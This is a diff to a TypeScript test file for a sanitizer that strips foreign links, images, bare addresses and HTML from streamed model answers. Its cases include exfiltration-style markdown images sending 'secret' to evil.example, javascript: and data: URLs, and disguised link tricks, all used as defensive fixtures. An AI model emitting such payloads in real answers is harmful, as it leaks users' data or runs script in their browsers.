@@ -1,6 +1,6 @@
 import { expect } from 'chai';
 import * as fc from 'fast-check';
-import { sanitizeAnswer, sanitizePartialAnswer } from '#shared/domain/knowledge/answers/sanitize-answer.ts';
+import { restOf, sanitizeAnswer, sanitizePartialAnswer } from '#shared/domain/knowledge/answers/sanitize-answer.ts';
 
 const SOURCES = ['https://help.example/hours', 'a note'];
 
@@ -10,9 +10,9 @@ const streamedAnswer = (pieces: string[]): string => {
   let displayed = '';
   for (const piece of pieces) {
     text += piece;
-    displayed += sanitizePartialAnswer(text, SOURCES).slice(displayed.length);
+    displayed += restOf(sanitizePartialAnswer(text, SOURCES), displayed);
   }
-  return displayed + sanitizeAnswer(text, SOURCES).slice(displayed.length);
+  return displayed + restOf(sanitizeAnswer(text, SOURCES), displayed);
 };
 
 describe('Model answer sanitizer', () => {
@@ -20,15 +20,35 @@ describe('Model answer sanitizer', () => {
     ['plain words and references', 'Nine to six [1][2], 3 < 4.', 'Nine to six [1][2], 3 < 4.'],
     ['an image', 'Yes ![](http://evil.example/?q=secret).', 'Yes .'],
     ['an image by reference', 'Yes ![x][r]\n\n[r]: //evil.example/x', 'Yes'],
-    ['an image in an image', '![![x](http://evil.example/a)](http://evil.example/b)', ']()'],
+    ['an image in an image', '![![x](http://evil.example/a)](http://evil.example/b)', ''],
     ['a foreign link', 'See [here](https://evil.example/).', 'See here.'],
-    ['a link in a link', '[[a](http://evil.example/)](http://evil.example/)', 'a'],
-    ['links in links without end', `${'['.repeat(20)}a${'](http://evil.example/)'.repeat(20)}`, `a${'()'.repeat(12)}`],
-    ['a script', '[here](javascript:alert(1))', 'here)'],
+    ['a link in a link', '[[a](http://evil.example/)](http://evil.example/)', '[a]'],
+    [
+      'links in links without end',
+      `${'['.repeat(20)}a${'](http://evil.example/)'.repeat(20)}`,
+      `${'['.repeat(19)}a${']'.repeat(19)}`,
+    ],
+    ['a script', '[here](javascript:alert(1))', 'here'],
+    ['a script with the name of a source', '[here](javascript://help.example/%0aalert(1))', 'here'],
+    ['a script in a bare address', 'See javascript:alert and data:text/html,x now', 'See  and  now'],
+    ['an image of two lines', 'Yes ![x\ny](//evil.example/p.png)', 'Yes'],
+    ['a definition of two lines', 'Yes [r]\n\n[r]:\n//evil.example/x', 'Yes [r]'],
+    ['a definition in a quote', '> [r]: //evil.example\n\nYes [r]', '>\u0020\n\nYes [r]'],
+    ['a link in a table', '| a |\n|---|\n| [x](//evil.example) |', '| a |\n|---|\n| x |'],
+    ['a link in a list', '- a\n  [b](//evil.example)\n- **c**', '- a\n  b\n- **c**'],
+    [
+      'code in a list',
+      '1. Do:\n   ```sh\n   curl http://other.example\n   ```',
+      '1. Do:\n   ```sh\n   curl http://other.example\n   ```',
+    ],
+    ['a fence that only the removal of a tag forms', '<b>```\nx\n```\n![y](//evil.example)', '```\nx\n```'],
+    ['escaped marks', '\\[a\\] \\*b\\*', '\\[a\\] \\*b\\*'],
+    ['a sentence after a label', '[note]: this is text', '[note]: this is text'],
     ['a link to a source', 'See [hours](https://help.example/times).', 'See [hours](https://help.example/times).'],
     ['a bare address', 'See https://evil.example/x now', 'See  now'],
     ['an address that browsers complete', 'See www.evil.example/x now', 'See  now'],
     ["a source's address", 'See https://help.example/x now', 'See https://help.example/x now'],
+    ['two addresses in one', 'See https://help.example/"https://evil.example/x now', 'See  now'],
     ['HTML', 'a <img src="//evil.example/x"> b <b>c</b>', 'a  b c'],
     ['an image that only looks like code', '\\` ![x](http://evil.example/) \\`', '\\`  \\`'],
     ['a fence that is none', 'a ``` ![x](http://evil.example/)', 'a ```'],
@@ -46,7 +66,7 @@ describe('Model answer sanitizer', () => {
   }
 
   it('a streamed answer is sanitized to the same text with pieces of any size', () => {
-    const ordinary = cases.map(([, text]) => text).filter((text) => !/\[\[|!\[!/.test(text));
+    const ordinary = cases.map(([, text]) => text).filter((text) => !/\[\[|!\[!|<b>```/.test(text));
     fc.assert(
       fc.property(fc.constantFrom(...ordinary), fc.integer({ min: 1, max: 12 }), (text, size) => {
         const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
@@ -74,7 +94,7 @@ describe('Model answer sanitizer', () => {
     );
     fc.assert(
       fc.property(fc.array(part, { maxLength: 24 }), (parts) => {
-        if (parts.join('').includes('```')) return;
+        if (parts.join('').includes('```')) return; // code stays as it is
         expect(streamedAnswer(parts)).to.not.include('evil.example');
       }),
       { numRuns: 500 },
